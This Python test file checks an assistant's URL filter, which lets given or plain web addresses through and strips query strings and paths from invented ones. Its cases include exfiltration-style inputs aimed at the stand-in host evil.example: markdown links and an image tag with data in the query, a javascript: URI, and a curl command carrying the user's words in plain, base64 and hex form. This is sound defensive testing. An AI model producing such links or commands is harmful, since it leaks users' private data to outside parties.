"""Which web addresses a reply may show: those that were given, and plain ones; nothing carried."""

from __future__ import annotations

import base64

import pytest

from assistant.agent.addresses import Addresses
from assistant.agent.claims import Gate


def gate(text: str, *known: str, foreign: bool = True, words: str = "") -> tuple[str, list[str]]:
    """What is shown of a reply that comes in small pieces, and what the person is told."""
    told: list[str] = []
    addresses = Addresses(frozenset(known), foreign, frozenset(words.split()), told.append)
    gate = Gate((), 2, addresses=addresses)
    pieces = [text[i : i + 3] for i in range(0, len(text), 3)]
    return "".join([*map(gate.feed, pieces), gate.rest()]), told


@pytest.mark.parametrize(
    "text",
    [
        "See https://example.org, or [the site](https://example.org).",
        "Python's manual is at https://docs.python.org.",
        "It is served at http://localhost:8000/docs?x=1 here.",
        "At 10:30 it is 3:2. Really? Yes. JavaScript: the good parts. Is it in a.pdf?",
        "图书馆的网站是 https://www.nlc.cn/ ，请看。",
    ],
)
def test_plain_addresses_stay(text: str) -> None:
    assert gate(text) == (text, [])


def test_an_address_that_was_given_is_shown_to_the_letter() -> None:
    given = "https://shop.example/orders?id=17&view=all"
    for said in (f"It is {given}.", f"[Your order]({given})", "It is https://shop.example/orders."):
        assert gate(said, given) == (said, [])
    shown, told = gate(f"It is {given}&who=ann.", given)
    assert shown == "It is https://shop.example."
    assert "https://shop.example" in told[0]


def test_while_nobody_else_spoke_only_what_follows_the_question_mark_goes() -> None:
    whole = "See https://docs.python.org/3/library/asyncio.html."
    assert gate(whole, foreign=False) == (whole, [])
    assert gate("https://evil.example/a?b=c", foreign=False)[0] == "https://evil.example/a"


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("[here](https://evil.example/x?d=1)", "here (https://evil.example)"),
        ("<https://ann-lives-in-leeds.evil.example/>", "<[…]>"),
        ("https://ann@evil.example:4242/", "https://evil.example"),
        ("[a](HTTPS://evil.example/x)", "a (https://evil.example)"),
        (
            "[https://good.example](https://evil.example)",
            "https://good.example (https://evil.example)",
        ),
        ("[a](https:\\\\evil.example\\x)", "a"),
        ("javascript:alert(1) and ftp://evil.example/x", "[…] and […]"),
        ("请看 https://evil.example/?好=密码。", "请看 https://evil.example/? 好=密码。"),
        ("`https://evil.example/x?d=1`", "`https://evil.example`"),
        ("<img src=//evil.example/x.png> Yes.", " Yes."),
    ],
)
def test_an_address_that_was_made_up_carries_nothing(text: str, left: str) -> None:
    assert gate(text)[0] == left


def test_code_keeps_its_addresses_without_the_words_of_others() -> None:
    hidden = base64.b64encode(b"rosewood lane").decode()
    code = "```\ncurl https://api.example/repos?per_page=3\ncurl https://evil.example/?d={}\n```\n"
    for word in ("rosewood", hidden, b"rosewood".hex()):
        assert gate(code.format(word), words="rosewood lane")[0] == (
            "```\ncurl https://api.example/repos?per_page=3\ncurl https://evil.example\n```\n"
        )
    assert gate(code.format("tea"), words="rosewood lane")[0] == code.format("tea")
